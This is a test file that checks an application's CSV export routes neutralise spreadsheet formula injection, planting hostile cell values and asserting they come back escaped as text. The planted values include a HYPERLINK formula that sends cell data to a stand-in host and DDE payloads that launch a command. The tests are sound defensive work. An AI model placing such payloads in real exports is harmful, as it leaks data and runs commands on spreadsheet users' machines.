// CSV (formula) injection, OWASP's rule: a cell a spreadsheet program would run as a formula — text starting with
// =, +, -, @, a tab or a carriage return — is written with a leading apostrophe. Every CSV export route is read
// back by a CSV parser with hostile text planted in the records it lists; the values are written to the database
// directly, as old or imported data could hold them, whatever the forms accept.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "~/db.server";
import * as directoryCsv from "~/routes/_app.directory.export[.]csv";
import * as planCsv from "~/routes/_app.groups.$slug.plan[.]csv";
import * as recommendationsCsv from "~/routes/_app.recommendations[.csv]";
import * as projectsCsv from "~/routes/_app.projects[.csv]";
import * as matrixCsv from "~/routes/_app.projects.matrix[.csv]";
import { callRoute, createUser, organizationByCode, seedReference, sessionCookie } from "../support/fixtures";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const formula = (i: number) => FORMULAS[i % FORMULAS.length];

let cookie: string;

beforeAll(async () => {
  await seedReference();
  const secretariat = await createUser({ role: "SECRETARIAT", organization: "UNOCT", groups: [[4, "MEMBER"]] });
  cookie = await sessionCookie(secretariat.id);
  const group = await db.workingGroup.findUniqueOrThrow({ where: { number: 4 } });
  const kenya = await organizationByCode("KEN");
  // An entity whose name is a formula leads a project (matrix rows by lead organization) and a plan item.
  const hostileOrg = await db.organization.create({ data: { kind: "COMPACT_ENTITY", name: formula(0), acronym: formula(1) } });

  // Directory: people whose name, title and phone look like formulas.
  for (let i = 0; i < FORMULAS.length; i++) {
    await createUser({ name: formula(i), title: formula(i + 1), phone: formula(i + 2), phoneVisible: true, organization: "KEN" });
  }

  // Working-group plan.
  for (let i = 0; i < FORMULAS.length; i++) {
    await db.workPlanItem.create({
      data: {
        groupId: group.id,
        title: formula(i),
        description: formula(i + 1),
        deliverable: formula(i + 2),
        leadOrganizationId: hostileOrg.id,
        pillar: 1,
        rank: i + 1,
      },
    });
  }

  // Recommendations to Kenya.
  const assessment = await db.assessment.create({
    data: {
      stateId: kenya.id,
      kind: "VISIT",
      reference: "CSV/KEN/2026",
      startDate: new Date("2026-01-01"),
      endDate: new Date("2026-01-05"),
    },
  });
  for (let i = 0; i < FORMULAS.length; i++) {
    await db.recommendation.create({ data: { assessmentId: assessment.id, number: i + 1, text: formula(i), priority: "HIGH" } });
  }

  // Projects.
  for (let i = 0; i < FORMULAS.length; i++) {
    await db.project.create({
      data: {
        code: `CSV-${i}`,
        title: formula(i),
        summary: formula(i + 1),
        leadOrganizationId: hostileOrg.id,
        isGlobal: true,
        startDate: new Date("2026-01-01"),
        endDate: new Date("2027-12-31"),
        budgetUsd: 1000,
        fundingStatus: "UNFUNDED",
        status: "ONGOING",
      },
    });
  }
});

const EXPORTS = [
  { name: "directory export", fn: directoryCsv.loader, url: "/directory/export.csv", groupSlug: false },
  { name: "working-group plan", fn: planCsv.loader, url: "/groups/x/plan.csv", groupSlug: true },
  { name: "recommendations", fn: recommendationsCsv.loader, url: "/recommendations.csv?state=KEN", groupSlug: false },
  { name: "project list", fn: projectsCsv.loader, url: "/projects.csv", groupSlug: false },
  {
    name: "project matrix by lead organization",
    fn: matrixCsv.loader,
    url: "/projects/matrix.csv?rows=organization&cols=pillar",
    groupSlug: false,
  },
];

describe("every CSV export neutralises formulas", () => {
  for (const route of EXPORTS) {
    it(route.name, async () => {
      const params: Record<string, string> = route.groupSlug
        ? { slug: (await db.workingGroup.findUniqueOrThrow({ where: { number: 4 } })).slug }
        : {};
      const outcome = await callRoute(route.fn, { url: route.url, cookie, params });
      expect(outcome.status).toBe(200);
      expect(outcome.headers.get("Content-Type")).toMatch(/^text\/csv/);
      const cells = (parse(String(outcome.data), { bom: true, relax_column_count: true }) as string[][]).flat();
      // Nothing a spreadsheet would evaluate…
      const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      expect(dangerous, route.name).toEqual([]);
      // …and the planted values are there, as text.
      const planted = cells.filter((cell) => FORMULAS.some((f) => cell === `'${f}` || cell.includes(`'${f}`)));
      expect(planted.length, route.name).toBeGreaterThan(0);
    });
  }
});
